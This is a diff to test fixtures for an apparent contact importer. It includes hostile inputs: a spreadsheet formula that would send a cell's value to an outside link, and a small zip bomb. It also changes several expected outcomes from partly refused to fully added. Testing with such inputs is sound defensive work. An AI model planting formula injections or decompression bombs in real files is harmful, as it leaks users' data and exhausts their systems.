@@ -280,7 +280,7 @@ ORDINARY = (
     Spreadsheet(file="empty-rows.csv", what="empty rows and columns that a spreadsheet left",
                 result="1 added", data=lambda: b"email,name,,\n,,,\nann@example.org,Ann,,\n,,,\n"),
     Spreadsheet(file="countries.csv", what="countries in ten languages, and one that could be two",
-                result="4 added, 1 refused",
+                result="5 added",
                 data=lambda: delimited([["email", "country"], ["a@example.org", "モンゴル"],
                                         ["b@example.org", "République de Corée"], ["c@example.org", "CHN"],
                                         ["d@example.org", "Viet Nam"], ["e@example.org", "Korea"]])),
@@ -323,7 +323,7 @@ ORDINARY = (
     Spreadsheet(file="sep-utf-16.csv", what="the same in UTF-16", result="3 added", names=NAMES["zh"],
                 data=lambda: ("sep=\t\r\n" + named("zh", delimiter="\t")().decode()).encode("utf-16")),
     Spreadsheet(file="address-cells.csv", what="addresses with names, links and second addresses beside them",
-                result="5 added", names=["Li, Ann", "Bat", "Chen", "Dorj"],
+                result="5 added", names=["Ann Li", "Bat", "Chen", "Dorj"],
                 data=lambda: delimited(ADDRESS_CELLS)),
     Spreadsheet(file="two-addresses.vcf", what="an address book whose people have several addresses",
                 result="2 added", names=["Ann Li", "Bat"], data=lambda: APPLE_CARDS.encode()),
@@ -331,7 +331,7 @@ ORDINARY = (
 
 HOSTILE = (
     Spreadsheet(file="formulas.csv", what="formulas in cells: kept as text, written out harmless",
-                result="1 added, 1 refused", names=['=HYPERLINK("http://example.org/?"&A1)'],
+                result="2 added", names=['=HYPERLINK("http://example.org/?"&A1)'],
                 data=lambda: delimited(FORMULAS)),
     Spreadsheet(file="bomb.zip", what="an archive of 50 kB that unfolds to 50 MB",
                 result="refused whole: claims to hold", data=lambda: packed({"a.csv": b"0" * 50_000_000})),
